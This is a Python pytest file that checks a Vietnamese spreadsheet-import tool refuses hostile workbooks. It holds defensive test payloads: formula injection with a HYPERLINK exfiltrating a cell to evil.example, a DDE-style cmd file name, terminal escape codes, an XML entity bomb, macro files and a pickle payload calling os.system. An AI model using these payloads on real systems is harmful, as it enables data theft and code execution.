"""The hostile corpus (issue 9): every file is generated here, loaded by the real command line in a
child process, and must end with exit code 2, a Vietnamese sentence naming what is wrong, within a
time and memory bound (measured by the child's parent: getrusage(RUSAGE_CHILDREN).ru_maxrss, which
covers the CLI and its parser child) and with the warehouse unchanged, byte for byte.

Fast cases run in `make test-fast`; the floods at full size and the real million-row sheet are
marked `slow` (they take tens of seconds on a shared machine, mostly the command's own start-up
and per-row name resolution).
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import zipfile

import openpyxl
import pytest

from etl import cli, guard, importer
from etl.batches import ExistingBatch, loaded_by_other
from etl.problems import MAX_PROBLEMS
from tests.conftest import ROOT
from tests.support.hostile import MACRO_MAIN, million_rows, package, sheet_xml, tthc, workbook
from tests.support.imports import archive, assert_unchanged, current, run_cli, snapshot  # noqa: F401

SECONDS = 30  # generous on two shared cores; the work itself takes a few seconds
MEMORY_MB = 500

_MEASURE = r"""
import json, resource, subprocess, sys, time
start = time.monotonic()
p = subprocess.run([sys.executable, "-m", "etl", *sys.argv[1:]], capture_output=True, text=True)
print(json.dumps({"code": p.returncode, "out": p.stdout + p.stderr, "seconds": time.monotonic() - start,
                  "rss_mb": resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024}))
"""

LIMIT_ROWS = f"{guard.MAX_ROWS:,}".replace(",", ".")  # as the message writes it


def measured(db, *args: str) -> dict:
    """`python -m etl --db DB ARGS` in a fresh process tree: exit code, output, seconds, peak RSS (MB)."""
    proc = subprocess.run(
        [sys.executable, "-c", _MEASURE, "--db", str(db), *args],
        capture_output=True,
        text=True,
        cwd=ROOT,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        timeout=600,
    )
    return json.loads(proc.stdout)


def refused(db, paths, *expected: str, args=(), seconds: float = SECONDS) -> dict:
    """Load one file (or several in one command: each is reported) and check the refusal."""
    before = snapshot(db)
    paths = paths if isinstance(paths, list) else [paths]
    run = measured(db, "load", *map(str, paths), *args)
    assert run["code"] == 2, run["out"]
    for text in expected:
        assert text in run["out"], run["out"]
    assert "Traceback" not in run["out"] and "Lỗi nội bộ" not in run["out"], run["out"]
    assert run["seconds"] < seconds, f"{run['seconds']:.1f} s"
    assert run["rss_mb"] < MEMORY_MB, f"{run['rss_mb']:.0f} MB"
    assert_unchanged(before, db)
    return run


def write(tmp_path, name: str, data: bytes):
    path = tmp_path / name
    path.write_bytes(data)
    return path


# --- bounds before work -----------------------------------------------------------------------


def test_one_far_cell_is_refused_before_the_parser_builds_its_grid(sample_db, archive, tmp_path):
    """6 KB files whose dense grids would be 512 GiB, 29 GiB and 4 GB (the three in one command)."""
    paths, expected = [], []
    for far in ("XFD1048576", "XFD60000", "XFD8000"):
        data = workbook(tthc(["Sở Y tế"]), far={far: 1})
        assert len(data) < 10_000
        paths.append(write(tmp_path, f"{far}.xlsx", data))
        row = f"{int(far[3:]):,}".replace(",", ".")
        expected.append(
            f"Tệp '{far}.xlsx' bị từ chối: trang 'Dữ liệu' có ô dữ liệu ở {far} (dòng {row}, cột thứ "
            f"16.384), ngoài giới hạn {LIMIT_ROWS} dòng × 1.000 cột mỗi trang"
        )
    refused(sample_db, paths, *expected, seconds=20)


def test_a_parser_abort_becomes_an_unreadable_file_and_the_caller_lives(
    capsys, sample_db, archive, tmp_path, monkeypatch
):
    """Without the guard's bound the parser aborts (a Rust allocation failure, SIGABRT): only its child dies."""
    monkeypatch.setattr(guard, "_check_extent", lambda name, sheets: None)
    path = write(tmp_path, "xa.xlsx", workbook(tthc(["Sở Y tế"]), far={"XFD1048576": 1}))
    before = snapshot(sample_db)
    code, out = run_cli(capsys, sample_db, "load", str(path))
    assert code == 2 and "Tệp 'xa.xlsx' không đọc được" in out, out
    assert "stack backtrace" not in out and "Traceback" not in out
    assert_unchanged(before, sample_db)
    code, out = run_cli(capsys, sample_db, "load", str(write(tmp_path, "tot.xlsx", workbook(tthc(["Sở Y tế"])))))
    assert code == 0 and "Đã nạp 'tot.xlsx'" in out, out  # this very process goes on loading


def test_a_large_real_sheet_is_too_many_rows_not_a_zip_bomb(sample_db, archive, tmp_path):
    """A stand-in for the million-row sheet (same path: rows counted while the sheet is unpacked)."""
    path = tmp_path / "lon.xlsx"
    million_rows(path, rows=guard.MAX_ROWS + 5_000)
    run = refused(sample_db, path, "có quá nhiều dòng", f"hơn {LIMIT_ROWS} dòng dữ liệu")
    assert "zip bomb" not in run["out"]


@pytest.mark.slow
def test_a_genuine_million_row_sheet(sample_db, archive, tmp_path):
    path = tmp_path / "trieu.xlsx"
    million_rows(path)
    run = refused(sample_db, path, "có quá nhiều dòng", f"hơn {LIMIT_ROWS} dòng dữ liệu")
    assert "zip bomb" not in run["out"]


def test_an_86_mb_file_is_reported_at_its_real_size(sample_db, archive, tmp_path):
    path = tmp_path / "to.xlsx"
    with path.open("wb") as fh:  # sparse: costs nothing on disk
        fh.write(b"PK\x03\x04")
        fh.seek(86 * guard.MB - 1)
        fh.write(b"\0")
    refused(sample_db, path, "dung lượng 86,0 MB, vượt giới hạn 50,0 MB", seconds=15)


# --- linear and capped reporting -------------------------------------------------------------


def _duplicates(sample_db, tmp_path, n: int) -> None:
    path = write(tmp_path, "trung.xlsx", workbook(tthc(["Sở Y tế"] * n)))
    total = f"{n:,}".replace(",", ".")
    run = refused(
        sample_db, path, f"Đơn vị này xuất hiện nhiều lần trong bảng (các dòng 4, 5, 6, 7, 8 … (tổng {total} dòng))"
    )
    assert run["out"].count("xuất hiện nhiều lần") == 1  # once per unit, not once per row


def _unknowns(sample_db, tmp_path, n: int) -> None:
    path = write(tmp_path, "la.xlsx", workbook(tthc([f"Đơn vị lạ {i}" for i in range(n)])))
    report = tmp_path / "bao_cao.csv"
    more = f"và {n - MAX_PROBLEMS:,} lỗi khác".replace(",", ".")
    run = refused(sample_db, path, more, args=("--report", str(report)))
    assert run["out"].count("✗") == MAX_PROBLEMS + 1
    assert len(report.read_bytes().decode("utf-8-sig").splitlines()) == MAX_PROBLEMS + 2  # header + the cap line


def test_a_flood_of_duplicate_rows_is_one_message(sample_db, archive, tmp_path):
    _duplicates(sample_db, tmp_path, 2_000)


def test_a_flood_of_unknown_names_is_capped(sample_db, archive, tmp_path):
    _unknowns(sample_db, tmp_path, 2_000)


@pytest.mark.slow
@pytest.mark.parametrize("n", [10_000, 20_000, 40_000])
def test_duplicate_floods_at_full_size(sample_db, archive, tmp_path, n):
    _duplicates(sample_db, tmp_path, n)


@pytest.mark.slow
@pytest.mark.parametrize("n", [10_000, 40_000])
def test_unknown_floods_at_full_size(sample_db, archive, tmp_path, n):
    _unknowns(sample_db, tmp_path, n)


# --- neutralised output -----------------------------------------------------------------------

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&B8,"Bấm để xem")',
    "=1+1",
    "\t=1+1",
    "+1+2",
    "-2+3",
    "@SUM(A1)",
    "![x](http://evil.example/x.png)",
    "[link](http://evil.example)",
    "**đậm**",
]


def test_reports_carry_no_formula(capsys, sample_db, archive, tmp_path):
    """Both reports (what the page offers and `--report` writes) reopened: no formula, no live value."""
    rows = tthc(["Sở Y tế", "P. Buôn Ma Thuột", "xã Ea H'leo"] + PAYLOADS)
    for r, payload in enumerate(PAYLOADS, start=7):
        rows[r - 1][2] = payload  # a payload where a number belongs, too
    path = write(tmp_path, "=cmd|' -C calc'!A0.xlsx", workbook(rows))
    xlsx, csv_path = tmp_path / "bao_cao.xlsx", tmp_path / "bao_cao.csv"
    refused(sample_db, path, "Không tìm thấy đơn vị", "Đã ghi báo cáo kiểm tra", args=("--report", str(xlsx)))
    code, out = run_cli(capsys, sample_db, "load", str(path), "--report", str(csv_path))
    assert code == 2 and "Đã ghi báo cáo kiểm tra" in out, out

    with zipfile.ZipFile(xlsx) as z:
        sheet = z.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<f " not in sheet
    book = openpyxl.load_workbook(xlsx)
    cells = [c for row in book.active.iter_rows() for c in row if c.value is not None]
    assert {c.data_type for c in cells} <= {"s", "n"}
    texts = {c.value for c in cells}
    assert "=1+1" in texts and PAYLOADS[0] in texts  # kept as text, exactly
    assert "=cmd|' -C calc'!A0.xlsx" in texts

    fields = [f for row in csv.reader(io.StringIO(csv_path.read_bytes().decode("utf-8-sig"))) for f in row]
    risky = [f for f in fields if f[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"-?[\d.,]+", f)]
    assert not risky, risky
    assert "'=1+1" in fields and "'" + PAYLOADS[0] in fields


def test_control_characters_are_visible_in_the_command_output(sample_db, archive, tmp_path):
    name = "Sở\x1b[2J\x1b]0;pwned\x07 Y tế\x00"
    run = refused(sample_db, write(tmp_path, "esc.xlsx", workbook(tthc([name]))), r"Sở\x1b[2J\x1b]0;pwned\x07 Y tế\x00")
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", run["out"]), repr(run["out"])


# --- renamed parts and macros -----------------------------------------------------------------


def test_a_sheet_renamed_dat_is_still_checked_as_xml(sample_db, archive, tmp_path):
    attack = '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>'
    xml = sheet_xml(tthc(["Sở Y tế"])).replace("<worksheet", attack + "<worksheet", 1)
    data = package({"Dữ liệu": xml}, sheet_paths=["xl/worksheets/sheet1.dat"])
    far = package({"Dữ liệu": sheet_xml(tthc(["Sở Y tế"]), {"XFD60000": 1})}, sheet_paths=["xl/worksheets/s.dat"])
    refused(
        sample_db,
        [write(tmp_path, "dat.xlsx", data), write(tmp_path, "dat2.xlsx", far)],
        "khai báo DTD/ENTITY trong XML (xl/worksheets/sheet1.dat)",
        "Tệp 'dat2.xlsx' bị từ chối: trang 'Dữ liệu' có ô dữ liệu ở XFD60000",
    )


def test_a_clean_sheet_under_another_name_still_loads(capsys, sample_db, archive, tmp_path):
    data = package({"Dữ liệu": sheet_xml(tthc(["Sở Y tế"]))}, sheet_paths=["xl/worksheets/sheet1.dat"])
    code, out = run_cli(capsys, sample_db, "load", str(write(tmp_path, "dat.xlsx", data)))
    assert code == 0 and "Đã nạp 'dat.xlsx'" in out, out


def test_macro_workbooks_are_refused(sample_db, archive, tmp_path):
    vba = workbook(
        tthc(["Sở Y tế"]), extra={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 512}, main_type=MACRO_MAIN
    )
    xlm = workbook(tthc(["Sở Y tế"]), extra={"xl/macrosheets/sheet2.xml": b"<xm:macrosheet/>"})  # Excel 4.0 macros
    run = refused(
        sample_db,
        [write(tmp_path, "vba.xlsm", vba), write(tmp_path, "xlm.xlsx", xlm)],
        "Tệp 'vba.xlsm' chứa macro",
        "Tệp 'xlm.xlsx' chứa macro",
        "Sổ làm việc Excel (.xlsx)",
    )
    assert run["out"].count("chứa macro") == 2


def test_an_xlsm_without_macros_is_read(capsys, sample_db, archive, tmp_path):
    code, out = run_cli(capsys, sample_db, "load", str(write(tmp_path, "bc.xlsm", workbook(tthc(["Sở Y tế"])))))
    assert code == 0 and "Đã nạp 'bc.xlsm'" in out, out


# --- honest messages --------------------------------------------------------------------------


def test_a_simultaneous_second_load_says_the_other_loaded_it(sample_db, archive, tmp_path):
    """Two people check the same new file, then both confirm: one batch, and the second is told so."""
    data = workbook(tthc(["Sở Y tế"]))
    first = importer.check_files([("bc.xlsx", data)], path=sample_db)
    second = importer.check_files([("bc.xlsx", data)], path=sample_db)
    assert first[0].already_loaded is None and second[0].already_loaded is None
    mine = importer.load_checked(first, "lan", path=sample_db)["bc.xlsx"]
    theirs = importer.load_checked(second, "minh", path=sample_db)["bc.xlsx"]
    assert not isinstance(mine, ExistingBatch) and loaded_by_other(mine, "lan") is None
    assert isinstance(theirs, ExistingBatch) and theirs == mine
    message = loaded_by_other(theirs, "minh")
    assert "đã được lan nạp trước lúc" in message and f"(lô {mine})" in message
    assert len(current(sample_db, "SELECT * FROM batches WHERE file_name = 'bc.xlsx'")) == 1


def test_undo_says_what_is_in_force_afterwards(capsys, sample_db, archive, tmp_path):
    a = write(tmp_path, "a.xlsx", workbook(tthc(["Sở Y tế", "P. Buôn Ma Thuột"])))
    rows = tthc(["Sở Y tế"])
    rows[3][2] = 7
    b = write(tmp_path, "b.xlsx", workbook(rows))
    assert run_cli(capsys, sample_db, "load", str(a))[0] == 0
    assert run_cli(capsys, sample_db, "load", str(b))[0] == 0
    ids = current(sample_db, "SELECT batch_id, file_name FROM batches WHERE file_name IN ('a.xlsx', 'b.xlsx')")
    batch_a, batch_b = (int(ids.batch_id[ids.file_name == f].iloc[0]) for f in ("a.xlsx", "b.xlsx"))
    rows_per_unit = len(current(sample_db, "SELECT * FROM observations WHERE batch_id = ?", [batch_b]))

    code, out = run_cli(capsys, sample_db, "undo", str(batch_b))
    assert code == 0 and f"lô {batch_a} ({rows_per_unit} dòng)" in out, out
    code, out = run_cli(capsys, sample_db, "undo", str(batch_a))
    assert code == 0 and f"Không còn số liệu nào thay thế cho {2 * rows_per_unit} dòng" in out, out
    assert "được dùng lại" not in out


def test_warehouse_and_archive_are_owner_only(capsys, tmp_path, archive):
    db_path = tmp_path / "kho" / "warehouse.duckdb"
    assert cli.main(["--db", str(db_path), "init"]) == 0
    assert db_path.stat().st_mode & 0o777 == 0o600 and db_path.parent.stat().st_mode & 0o777 == 0o700
    code, out = run_cli(capsys, db_path, "load", str(write(tmp_path, "bc.xlsx", workbook(tthc(["Sở Y tế"])))))
    assert code == 0, out
    files = list(archive.iterdir())
    assert len(files) == 1 and files[0].stat().st_mode & 0o777 == 0o600
    assert archive.stat().st_mode & 0o777 == 0o700
    os.chmod(db_path, 0o644)  # an older warehouse: tightened on the next write
    run_cli(capsys, db_path, "alias", "Sở Y tế mới", "bogus")
    assert db_path.stat().st_mode & 0o777 == 0o600


def test_the_server_upload_limit_is_the_page_limit():
    import tomllib

    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text("utf-8"))
    assert config["server"]["maxUploadSize"] == guard.UPLOAD_LIMIT_MB
    assert guard.MAX_FILE_BYTES < guard.UPLOAD_LIMIT_MB * guard.MB  # a slightly larger file still hears why
    page = (ROOT / "pages" / "nhap_du_lieu.py").read_text("utf-8")
    assert "max_upload_size=guard.UPLOAD_LIMIT_MB" in page
    code = (
        "from streamlit import config; config.get_config_options(force_reparse=True); "
        "print(config.get_option('server.maxUploadSize'))"
    )  # what the server itself will enforce
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT, check=True).stdout
    assert int(out.split()[-1]) == guard.UPLOAD_LIMIT_MB


def test_the_parser_child_is_limited(tmp_path):
    """The limits are the child's own: a file the guard let through cannot take more than MEMORY_LIMIT."""
    from etl import sandbox

    code = (
        "import resource, sys; sys.argv = ['x']; import etl.sandbox as s; s._limit(); "
        "print(resource.getrlimit(resource.RLIMIT_AS)[0], resource.getrlimit(resource.RLIMIT_CPU)[0])"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT, check=True).stdout
    assert out.split() == [str(sandbox.MEMORY_LIMIT), str(sandbox.CPU_SECONDS)]


def test_a_subverted_child_cannot_make_the_parent_run_code():
    import pickle

    from etl import sandbox

    class Evil:
        def __reduce__(self):
            return (os.system, ("echo pwned",))

    with pytest.raises(pickle.UnpicklingError):
        sandbox._GridUnpickler(io.BytesIO(pickle.dumps([Evil()]))).load()


def test_two_sessions_of_one_server_confirming_the_same_file_make_one_batch(sample_db, archive):
    """Threads of one process share the database: the check and the insert must still be one step."""
    import threading

    data = workbook(tthc(["Sở Y tế"]))
    checked = [importer.check_files([("bc.xlsx", data)], path=sample_db) for _ in range(4)]
    barrier, results = threading.Barrier(4), []

    def confirm(files, user):
        barrier.wait()
        results.append(importer.load_checked(files, user, path=sample_db)["bc.xlsx"])

    threads = [threading.Thread(target=confirm, args=(c, f"u{i}")) for i, c in enumerate(checked)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert len(current(sample_db, "SELECT * FROM batches WHERE file_name = 'bc.xlsx'")) == 1
    assert len(set(results)) == 1 and sum(not isinstance(b, ExistingBatch) for b in results) == 1
